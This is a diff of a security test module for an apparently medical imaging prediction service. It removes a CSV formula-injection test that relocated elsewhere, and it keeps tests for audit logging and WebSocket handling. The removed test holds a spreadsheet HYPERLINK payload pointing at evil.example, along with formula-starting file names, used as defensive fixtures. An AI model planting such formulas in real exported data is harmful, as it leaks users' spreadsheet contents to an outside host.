@@ -6,15 +6,14 @@ Findings fixed here, one test each:
 - a request refused by the server itself (a body that stalls, headers too slow or too large) was missing from the
   audit log, or logged with what the app answered to the disconnect (400 `bad_request`) instead of the client's 408;
 - a WebSocket upgrade request was handed to the WebSocket handshake, outside the key check, the JSON errors and the
-  audit log (a plain-text 403), although no route takes a WebSocket;
-- `brain-tumor predict --format csv` copied a DICOM file's SOP Instance UID (or a file name) starting with `=` or `@`
-  into a cell a spreadsheet runs as a formula.
+  audit log (a plain-text 403), although no route takes a WebSocket.
+
+The round's fourth finding, formulas in `brain-tumor predict --format csv`, is tested in
+`tests/cli/test_predict_output.py`.
 """
 
 from __future__ import annotations
 
-import csv
-import io
 import json
 import socket
 import time
@@ -25,7 +24,6 @@ import pytest
 from fastapi.testclient import TestClient
 
 from app.main import create_app
-from app.predict_command import PrintFormat, render
 from tests.security.conftest import ServerProcess, assert_error, security_settings, start_server
 
 KEY = "round3-key-5f4e3d2c1b0a"
@@ -144,36 +142,6 @@ def test_a_refusal_before_the_app_leaves_an_audit_line(
     assert (entry["status"], entry["peer"], entry["client"]) == (status, "127.0.0.1", "127.0.0.1")
     assert entry["outcome"] == {"error": code}
     assert len(entry["request_id"]) == 32
-
-
-# -- The command's CSV holds no formulas ---------------------------------------------------------------------
-
-
-def test_predict_csv_cells_from_files_never_start_a_formula():
-    formula_uid = '=HYPERLINK("http://evil.example/?"&A1,"open")'
-    report = {
-        "results": [
-            {
-                "index": 0,
-                "file": "@SUM(1+1).dcm",
-                "sop_instance_uid": formula_uid,
-                "frame_number": 1,
-                "ok": True,
-                "prediction": {
-                    "tumor_probability": 0.75,
-                    "tumor_detected": True,
-                    "threshold": 0.5,
-                    "mask": {"area_pixels": 12},
-                },
-            },
-            {"index": 1, "file": "-1+2.png", "ok": False, "error": {"code": "empty_file", "message": "empty"}},
-        ]
-    }
-    rows = list(csv.DictReader(io.StringIO(render(report, PrintFormat.CSV))))
-    assert [row["file"] for row in rows] == ["'@SUM(1+1).dcm", "'-1+2.png"]
-    assert rows[0]["sop_instance_uid"] == "'" + formula_uid
-    assert (rows[0]["tumor_probability"], rows[0]["area_pixels"], rows[0]["index"]) == ("0.75", "12", "0")
-    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
 
 
 def test_a_websocket_upgrade_is_answered_as_plain_http(audited_server: tuple[ServerProcess, Path]):
